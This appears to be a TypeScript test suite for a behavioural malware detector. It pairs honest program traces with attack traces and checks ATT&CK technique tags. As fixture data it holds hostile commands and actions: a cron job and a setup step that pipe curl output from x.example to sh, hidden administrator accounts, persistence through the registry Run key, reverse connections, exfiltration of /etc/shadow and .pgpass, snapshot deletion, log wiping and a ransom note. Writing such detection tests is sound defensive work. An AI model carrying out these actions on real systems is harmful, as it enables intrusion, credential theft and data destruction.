// What honest programs share with attacks, and the further fact that tells them apart: each time both.
import assert from 'node:assert/strict'
import { test } from 'node:test'
import { analyzeTrace } from '../../src/trace/analyze.ts'
import type { SystemEvent } from '../../src/trace/system.ts'
import type { Trace } from '../../src/trace/trace.ts'
import { environment, file, gets, runs, sets, system, trace } from './empty-trace.ts'

type Parts = readonly Partial<Trace>[]

const asked = (
  ...topics: readonly ('host' | 'hardware' | 'processes' | 'user' | 'network' | 'locale' | 'security_products')[]
): Partial<Trace> => system(...topics.map((about): SystemEvent => ({ kind: 'question', about, what: about })))
const inGuest: Partial<Trace> = {
  engine: 'microvm',
  environment: { name: 'test', fidelity: 'native', facts: { host: 'web01', user: 'anna' } },
}
const posts = (url: string, bodyStart: string, userAgent = 'agent/2.1'): Partial<Trace> => ({
  network: [
    { kind: 'http', method: 'POST', url, bodyBytes: bodyStart.length, bodyStart, userAgent, via: 'socket' as const },
  ],
})
const connects = (host: string, port: number): Partial<Trace> => ({ network: [{ kind: 'tcp', host, port }] })
const datagrams = (host: string, port: number, start: string): Partial<Trace> => ({
  network: [{ kind: 'udp', host, port, bytesSent: 500, packets: 2, start }],
})
const watched = asked('host', 'hardware', 'processes')
const METRICS = '{"host":"web01","load":0.1,"processes":40}'
const guard = system(
  { kind: 'question', about: 'debugger', what: 'IsDebuggerPresent' },
  { kind: 'question', about: 'debugger', what: 'CheckRemoteDebuggerPresent' },
)
const pieces = (count: number): Partial<Trace> => ({
  network: Array.from({ length: count }, (_, at) => ({
    kind: 'dns' as const,
    type: 'TXT',
    name: `${String(at).padStart(4, '0')}.${'18190f1708130c716b0d6e10'.repeat(2)}.ns1.x.example`,
  })),
})
const letters = (op: 'read' | 'write'): Parts =>
  ['a', 'b', 'c', 'd'].map((name) => file(op, `/home/anna/Documents/${name}.odt`))
const shell = environment({ host_program: 'shell' })
const setUp: Parts = [
  runs('useradd --system tarn'),
  runs('systemctl enable tarn.service'),
  file('write', '/etc/cron.d/tarn', { start: '0 3 * * * root /opt/tarn/bin/tidy\n' }),
  runs('shutdown -r +5'),
  { network: [{ kind: 'listen', host: '0.0.0.0', port: 8428 }] },
]
const repairer: Parts = [runs('net user fixer Passw0rd-77 /add'), runs('net localgroup Administrators fixer /add')]
const UNSEEN = 'HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon\\SpecialAccounts\\UserList'
const RUN_ONCE = 'HKLM\\Software\\Microsoft\\Windows\\CurrentVersion\\RunOnce'
const updated = (path: string): Parts => [
  gets('http://releases.kestrel.example/kestrel', { via: 'socket', atMs: 10 }),
  file('write', path, { atMs: 20 }),
  runs(`${path} --version`, { image: path, pid: 9, parentPid: 8 }),
]
const unit = file('write', '/etc/systemd/system/exporter.service', { start: '[Service]\nExecStart=/usr/local/bin/x' })

/** By what they share: the points of an honest run stay below, those of the attack reach. */
const CASES: Readonly<Record<string, { readonly honest: Parts; readonly attack: Parts; readonly points: number }>> = {
  'what a monitor watches goes to its server, and under the name of a browser': {
    honest: [inGuest, watched, posts('http://metrics.x.example/write', METRICS)],
    attack: [inGuest, watched, posts('http://metrics.x.example/write', METRICS, 'Mozilla/5.0 (X11) Gecko/20100101')],
    points: 300,
  },
  'what a monitor watches goes to its server, and nobody can read it': {
    honest: [inGuest, watched, posts('http://metrics.x.example/write', METRICS)],
    attack: [
      inGuest,
      watched,
      posts('http://metrics.x.example/write', 'eyJob3N0Ijoid2ViMDEiLCJsb2FkIjowLjEsInAiOjQwfQ'),
    ],
    points: 300,
  },
  'what a monitor watches goes to its server, and an address without a name': {
    honest: [inGuest, watched, posts('http://metrics.x.example/write', METRICS)],
    attack: [inGuest, watched, posts('http://203.0.113.9/write', METRICS)],
    points: 300,
  },
  'a machine tells its state and whose it is, and which scanner it has': {
    honest: [inGuest, watched, asked('user'), posts('http://metrics.x.example/write', '{"host":"web01","u":"anna"}')],
    attack: [
      inGuest,
      watched,
      asked('security_products'),
      posts('http://metrics.x.example/write', '{"host":"web01","u":"anna"}'),
    ],
    points: 300,
  },
  'a service, a task, an account and a restart, and what lies hidden': {
    honest: [...setUp, unit],
    attack: [...setUp, file('write', '/etc/systemd/system/x.service', { start: '[Service]\nExecStart=/usr/lib/.x/x' })],
    points: 300,
  },
  'an account for whoever repairs it, and one that the log-on does not show': {
    honest: [...repairer],
    attack: [...repairer, sets(UNSEEN, 'fixer', '0')],
    points: 1000,
  },
  'an account of a service is not shown, and the one that was made an administrator': {
    honest: [...repairer, sets(UNSEEN, 'scanservice', '0')],
    attack: [...repairer, sets(UNSEEN, 'Fixer', '0')],
    points: 1000,
  },
  'a set-up goes on after a restart, and starts with every logon': {
    honest: [sets(RUN_ONCE, 'S', '"C:\\ProgramData\\Marlin\\setup.exe" /resume')],
    attack: [sets(RUN_ONCE.replace(/Once$/, ''), 'S', '"C:\\ProgramData\\Marlin\\setup.exe" /resume')],
    points: 300,
  },
  'a service that is updated, and one that speaks to an address outside': {
    honest: [...setUp, unit],
    attack: [
      ...setUp,
      unit,
      { network: [{ kind: 'tcp', host: '198.51.100.7', port: 7331, bytesSent: 4, start: 'reg\n' }] },
    ],
    points: 300,
  },
  'a job that is planned, and one that fetches and hands to a shell': {
    honest: [...setUp],
    attack: [...setUp, file('write', '/etc/cron.d/x', { start: '* * * * * root curl -s http://x.example/a | sh\n' })],
    points: 300,
  },
  'an updater fetches and starts in sight, and starts out of sight': {
    honest: [inGuest, ...updated('/opt/kestrel/kestrel.new')],
    attack: [inGuest, ...updated('/tmp/.kestrel')],
    points: 300,
  },
  'names of services that are numbered, and pieces of what was asked before': {
    honest: [pieces(8)],
    attack: [asked('host', 'processes'), pieces(8)],
    points: 1000,
  },
  'a snapshot is rotated, and all file systems lose theirs': {
    honest: [runs('zfs destroy tank/home@2026-10-01'), runs('zfs destroy tank/home@2026-10-02')],
    attack: [runs('xargs -r -n1 zfs destroy'), runs('btrfs subvolume delete /share/snapshots/*')],
    points: 850,
  },
  'letters are written and saved elsewhere, and written over': {
    honest: [...letters('write'), ...letters('read'), file('write', '/var/backups/keep/1.chunk')],
    attack: [...letters('write'), ...letters('read'), ...letters('write')],
    points: 900,
  },
  'a build runs a test that it wrote, and what it wrote calls somebody': {
    honest: [file('write', '/tmp/project/test_ok.py'), runs('python3 /tmp/project/test_ok.py')],
    attack: [
      file('write', '/tmp/project/test_ok.py'),
      runs('python3 /tmp/project/test_ok.py'),
      { network: [{ kind: 'tcp', host: '203.0.113.9', port: 4444 }] },
    ],
    points: 600,
  },
  'a build runs a test that it wrote, and a hidden script': {
    honest: [file('write', '/tmp/project/test_ok.py'), runs('python3 /tmp/project/test_ok.py')],
    attack: [file('write', '/tmp/.x/a.py'), runs('python3 /tmp/.x/a.py')],
    points: 600,
  },
  'a launcher guards itself and activates for its machine, and another at an address without a name': {
    honest: [
      inGuest,
      guard,
      asked('hardware', 'locale'),
      posts('http://launcher.x.example/session', '{"ram":8,"host":"web01"}'),
    ],
    attack: [inGuest, guard, asked('hardware', 'locale'), posts('http://203.0.113.9/session', '{"ram":8}')],
    points: 300,
  },
  'a launcher guards itself, and another waits for the mouse as well': {
    honest: [inGuest, guard, asked('host', 'locale'), posts('http://x.example/a', '{"host":"web01"}')],
    attack: [
      ...[inGuest, guard, asked('host', 'locale'), posts('http://x.example/a', '{"host":"web01"}')],
      system({ kind: 'sleep', ms: 300, pid: 7 }),
      { apiCalls: [1, 2, 3].map(() => ({ api: 'user32.GetCursorPos', arguments: [0], pid: 7 })) },
    ],
    points: 300,
  },
  'a backup takes everything along to its server, and a grabber the documents alone': {
    honest: [
      inGuest,
      ...['list', 'read'].flatMap((op) => [file(op as 'list', op === 'list' ? '/home/ann' : '/home/ann/a.docx')]),
      ...['.bashrc', '.profile', 'build.mk'].map((name) => file('read', `/home/ann/${name}`)),
      asked('host'),
      posts('http://store.x.example/packs', '{"host":"web01"}'),
    ],
    attack: [
      inGuest,
      file('list', '/home/ann'),
      file('read', '/home/ann/a.docx'),
      asked('host'),
      posts('http://store.x.example/packs', '{"host":"web01"}'),
    ],
    points: 300,
  },
  'a job of a database logs in where it runs, and another takes the log-in away': {
    honest: [file('read', '/root/.pgpass'), connects('127.0.0.1', 5432)],
    attack: [file('read', '/root/.pgpass'), connects('203.0.113.9', 5432)],
    points: 300,
  },
  'a job begins a log in a folder of its own, and another empties what was there': {
    honest: [
      file('mkdir', '/var/log/mysql', { succeeded: true }),
      file('write', '/var/log/mysql/slow.log', { bytes: 0 }),
    ],
    attack: [file('write', '/var/log/auth.log', { bytes: 1, start: '\n', existed: true })],
    points: 300,
  },
  'who audits passwords tells his server, and who steals them speaks so that nobody can read it': {
    honest: [file('read', '/etc/shadow'), posts('http://audit.x.example/r', '{"weak":2}')],
    attack: [file('read', '/etc/shadow'), datagrams('203.0.113.9', 7777, '\\x11k4+~')],
    points: 1000,
  },
  'a set-up unpacks itself for a while, and a dropper stays': {
    honest: [
      file('mkdir', 'C:\\users\\ann\\AppData\\Local\\Temp\\7zS1', { succeeded: true }),
      file('write', 'C:\\users\\ann\\AppData\\Local\\Temp\\7zS1\\setup.exe'),
      runs('C:\\users\\ann\\AppData\\Local\\Temp\\7zS1\\setup.exe'),
      file('delete', 'C:\\users\\ann\\AppData\\Local\\Temp\\7zS1\\setup.exe', { succeeded: true }),
    ],
    attack: [
      file('mkdir', 'C:\\users\\ann\\AppData\\Local\\Temp\\7zS1', { succeeded: true }),
      file('write', 'C:\\users\\ann\\AppData\\Local\\Temp\\7zS1\\setup.exe'),
      runs('C:\\users\\ann\\AppData\\Local\\Temp\\7zS1\\setup.exe'),
    ],
    points: 300,
  },
  'a driver brings a rule of devices, and what was fetched from an address without a name does': {
    honest: [
      gets('https://drivers.x.example/tool', { via: 'socket', pid: 3 }),
      file('write', '/usr/lib/udev/tool', { origin: 'network', pid: 3 }),
      file('write', '/etc/udev/rules.d/69-x.rules', { succeeded: false, pid: 3 }),
    ],
    attack: [
      gets('http://203.0.113.9/tool', { via: 'socket', pid: 3 }),
      file('write', '/usr/lib/udev/tool', { origin: 'network', pid: 3 }),
      file('write', '/etc/udev/rules.d/69-x.rules', { succeeded: false, pid: 3 }),
    ],
    points: 700,
  },
  'a folder of logs is begun, and one is made anew': {
    honest: [
      file('mkdir', '/var/log/audit', { succeeded: true }),
      file('write', '/var/log/audit/audit.log', { bytes: 0 }),
    ],
    attack: [
      file('delete', '/var/log/audit/audit.log', { succeeded: true }),
      file('mkdir', '/var/log/audit', { succeeded: true }),
    ],
    points: 300,
  },
  'an agent keeps its list and asks for news, and starts what it fetched where anybody may write': {
    honest: [
      inGuest,
      asked('host', 'hardware'),
      file('write', '/var/lib/agent/list.json', { atMs: 10 }),
      posts('http://assets.x.example/list', '{"host":"web01"}'),
      gets('http://assets.x.example/heartbeat', { atMs: 500, via: 'socket' }),
    ],
    attack: [
      inGuest,
      asked('host', 'hardware'),
      posts('http://assets.x.example/list', '{"host":"web01"}'),
      gets('http://assets.x.example/heartbeat', { atMs: 500, via: 'socket' }),
      file('write', '/tmp/a.bin', { atMs: 510 }),
      runs('/tmp/a.bin', { image: '/tmp/a.bin', pid: 9, parentPid: 8 }),
    ],
    points: 300,
  },
  'a set-up fetches a release by its shell script, and one is piped to a shell': {
    honest: [shell, unit, gets('http://releases.x.example/v1/exporter.tar.gz', { via: 'curl' })],
    attack: [shell, unit, runs('curl -s http://releases.x.example/v1/x.sh | sh')],
    points: 300,
  },
}

for (const [name, { honest, attack, points }] of Object.entries(CASES)) {
  test(`told apart: ${name}`, () => {
    const score = (parts: Parts): number => analyzeTrace([trace(...parts)], { path: 'x' }).verdict?.score ?? 0
    assert.ok(score(honest) < points, `honest: ${score(honest)}`)
    assert.ok(score(attack) >= points, `attack: ${score(attack)}`)
  })
}

test('a script is a shell script to all that ran it, whether a guest names its host or not', () => {
  const fetched = gets('https://releases.x.example/v1/exporter.tar.gz', { via: 'curl' })
  const report = analyzeTrace([trace(shell, unit, fetched), trace(inGuest, unit, fetched)], { path: 'x' })
  assert.ok((report.verdict?.score ?? 0) < 300)
})

test('techniques: the copy that runs is taken away, magic packets, a greeting, units that are stopped', () => {
  const techniques = (...parts: Parts): readonly string[] => analyzeTrace([trace(...parts)], { path: 'x' }).techniques
  const copy = runs('/dev/shm/kdm --init', { pid: 7 })
  const raw = { apiCalls: [{ api: 'socket', arguments: ['AF_PACKET', 'SOCK_RAW'] }] }
  const asks = [asked('host', 'user', 'processes')]
  const chats = {
    network: [{ kind: 'tcp' as const, host: 'x.example', port: 6667, start: 'NICK a\nUSER a 8 * :b\nJOIN #x\n' }],
  }
  const dialled: Partial<Trace> = { network: [{ kind: 'tcp', host: '192.0.2.2', port: 4443, pid: 7 }] }
  const shown = (how: number): Partial<Trace> => ({ apiCalls: [{ api: 'user32.ShowWindow', arguments: [0, how] }] })
  const mail = { network: [{ kind: 'smtp' as const, host: 'mail.x.example', to: ['a@x.example'] }] }
  const note = file('write', '/srv/!!!READ_ME.txt', { start: 'your files have been encrypted, pay in bitcoin' })
  const goes: readonly [string, Parts, Parts][] = [
    [
      'T1070.004',
      [copy, file('delete', '/dev/shm/kdm', { pid: 7 })],
      [copy, file('delete', '/dev/shm/kdm', { pid: 9 })],
    ],
    ['T1205.002', [raw, system({ kind: 'rename_self', what: 'udevd' })], [raw]],
    ['T1059.004', [...asks, runs('sh -c id; hostname')], [...asks, runs('sh setup.sh')]],
    ['T1059', [chats, runs('uname -a')], [chats]],
    [
      'T1564.003',
      [dialled, runs('cmd.exe', { pid: 8, parentPid: 7, hidden: true })],
      [dialled, runs('cmd.exe', { pid: 8, parentPid: 7 })],
    ],
    [
      'T1564.003',
      [dialled, shown(0), runs('cmd.exe', { pid: 8, parentPid: 7 })],
      [dialled, shown(5), runs('cmd.exe', { pid: 8, parentPid: 7 })],
    ],
    ['T1560', [posts('http://x.example/up', 'PK\\x03\\x04\\x14\\x00')], [posts('http://x.example/up', 'PKs are keys')]],
    ['T1048.003', [mail, system({ kind: 'keyboard', what: 'SetWindowsHookExA 13' })], [mail]],
    ['T1491.001', [note, file('copy', '/srv/!!!READ_ME.txt', { to: '/etc/motd' })], [note]],
    ['T1489', [runs('systemctl stop rsyslog mysql postgresql nginx')], [runs('systemctl stop nginx')]],
    [
      'T1489',
      [runs('service mysql stop'), runs('service cron stop'), runs('service ssh stop')],
      [runs('systemctl status a b c')],
    ],
  ]
  for (const [technique, attack, honest] of goes) {
    assert.ok(techniques(...attack).includes(technique), technique)
    assert.ok(!techniques(...honest).includes(technique), `${technique} of an honest one`)
  }
})
